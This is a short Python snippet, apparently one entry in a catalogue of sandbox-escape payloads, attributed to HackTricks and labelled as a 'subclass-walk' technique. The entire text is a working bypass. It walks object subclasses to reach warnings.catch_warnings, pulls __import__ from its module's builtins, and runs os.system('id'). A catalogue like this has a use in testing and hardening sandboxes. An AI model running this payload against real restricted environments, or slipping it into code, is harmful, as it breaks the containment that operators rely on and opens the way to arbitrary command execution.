# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (warnings.catch_warnings()._module.__builtins__)
# Family: subclass-walk
# What: catch_warnings()._module.__builtins__['__import__']
cw = [x for x in (1).__class__.__base__.__subclasses__() if x.__name__ == "catch_warnings"][0]
cw()._module.__builtins__["__import__"]("os").system("id")
